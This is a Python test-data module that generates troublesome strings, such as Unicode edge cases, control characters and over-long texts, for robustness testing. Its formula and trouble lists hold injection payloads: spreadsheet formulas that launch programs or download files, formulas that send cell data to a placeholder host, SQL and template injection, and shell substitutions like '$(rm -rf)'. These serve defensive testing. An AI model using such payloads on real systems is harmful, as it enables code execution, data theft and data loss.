"""Texts that have made trouble elsewhere, and that people type every day."""

from collections.abc import Iterator
from random import Random

from qa_desk.domain.text import LONGEST_TEXT

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠SUM(1)"),
    *("=cmd|'/C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0", "=10+20+cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"x")'),
    *('=HYPERLINK("http://x.test/?"&A1,"see")', '=IMPORTXML("http://x.test","//a")', '=WEBSERVICE("http://x.test")'),
    *('=IMAGE("http://x.test")', "='\\\\host\\share\\[b.xlsx]S'!A1", "=rundll32|'URL.dll,OpenURL x'!A"),
    *('=EXEC("x")', '=CALL("urlmon","URLDownloadToFileA","JJCCBB",0)', "=A1:XFD1048576", "=1;2", "{=1}", "'=1"),
    *('"=1', ";=1", ",=1", "|=1", "%0A=1", "=", "+", "-", "@", "==", "=-1", "=+1", "=@1"),
    *("- bullet", "--note", "+44 20 7946 0000", "@handle", "#N/A", "#REF!", "#DIV/0!", "1e5", "0123", "TRUE", "false"),
    *("2024-01-01", "1/2", "(5)", "£5", "5%", "00:30", "12:30:00", "1,000", "1.5.2026", "-", "– dash", "_x0041_"),
)

TROUBLE = (
    *("", " ", "\u00a0", "\u200b", "\u200d", "\u00ad", "İ ı ß ﬁ", "e\u0301", "1️⃣", "👩‍👩‍👧", "🇬🇧", "Z̷̧a̶l̵g̴o̸"),
    *("</para>", '<img src="/etc/passwd">', '<a href="http://x.test">x</a>', "<b>", "&amp; & &lt;", "]]>", "<!--"),
    *("%s{}%(x)s", "$(x)", "../../", "'; DROP TABLE x; --", "a\tb", "two\nlines", "three\n\n\nparts", "\\n (\\)"),
    *("ŵ ŷ Ŵ Ŷ", "Zażółć gęślą jaźń", "Tiếng Việt", "中文", "देवनागरी", "ʼn", "½ ⅓ ≥ ≤ → ✓ ☐", "€ £ ₹", "…“”‘’–—"),
)

RIGHT_TO_LEFT = (
    "שלום עולם",
    "דוח על 25 מקרים (ילדים)",
    "שָׁלוֹם",
    "مرحبا بالعالم",
    "تقرير عن 25 حالة (الأطفال) في 2026",
    "Mother said السلام عليكم to the worker",
    "السَّلَامُ عَلَيْكُمْ",
    "ٹ ڈ ڑ گ چ پ ے ݭ",
    "الله لا",
)

CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0)))
STRANGE = (
    *("a\ufffeb", "a\uffffb", "a\ufdd0b", "a\U0001ffffb", "\ud800", "\udfff", "a\ud83db", "\ud83d\udc76"),
    *(f"say {chr(code)}that{chr(0x202C)} now" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    *("a\rb", "a\r\nb", "a\u2028b", "a\u2029b", "a\x85b", "a\u200eb", "a\u200fb", "\ufeffa", "a\ufeff", "a\u2060b"),
    *("z" + "\u0301" * 1_000, "e\u0301", "\u0301", "a\u0327\u0301", "\u1e9b\u0323", "\u212b", "\uac00\u11a8", "\u2028"),
    *("  two  spaces  ", "\n\n", "\t", " \n ", "a\n", "\na", "\u3000", "a\u00adb", "\udc76\ud83d", "\U0001f468\u200d"),
    *("_x000D_", "_x005F_x0041_", "_x0_", "&#10;", "\\u0041", "\\N{DIGIT ONE}", "%0A", "$(rm -rf)", "`id`", "{{7*7}}"),
    *("x" * LONGEST_TEXT, "word " * (LONGEST_TEXT // 5), "\U0001f476" * LONGEST_TEXT, "x" * (LONGEST_TEXT + 1)),
    *("word " * 100_000, "x" * 32_767, "x" * 32_768),
)
PIECES = (
    *("\u0301", "\u0323", "\u200d", "\u202e", "\u2066", "\ufeff", "\ufffe", "\ud83d", "\udc76", "\x00", "\x1f", "\x85"),
    *("\r", "\n", "\t", " ", "\u00a0", "\u00ad", "=", "+", "@", "'", '"', "<", ">", "&", "]]>", "_x0041_", "%s", "{}"),
    *(
        "\\",
        "ŵ",
        "Ł",
        "ế",
        "中",
        "देव",
        "שלום",
        "مرحبا",
        "25",
        "(",
        ")",
        "👶",
        "🏴\U000e0067",
        "a",
        "word",
        "İ",
        "ß",
        "ﬁ",
    ),
    *("½", "‹", "\u3164"),
)


def texts(count: int, draw: Random) -> Iterator[str]:
    """So many texts: all that are listed here when there is room for them, and made-up ones."""
    listed = (*FORMULAS, *TROUBLE, *RIGHT_TO_LEFT, *CONTROLS, *STRANGE)
    yield from listed if count >= len(listed) else draw.sample(listed, count)
    for _ in range(count - len(listed)):
        length = draw.randint(1, 40)
        yield "".join(draw.choice(PIECES) if draw.random() < 0.9 else chr(_code(draw)) for _ in range(length))


def _code(draw: Random) -> int:
    """Any code there is, those of everyday more often."""
    return draw.choice((draw.randrange(0x250), draw.randrange(0x3000), draw.randrange(0x110000)))
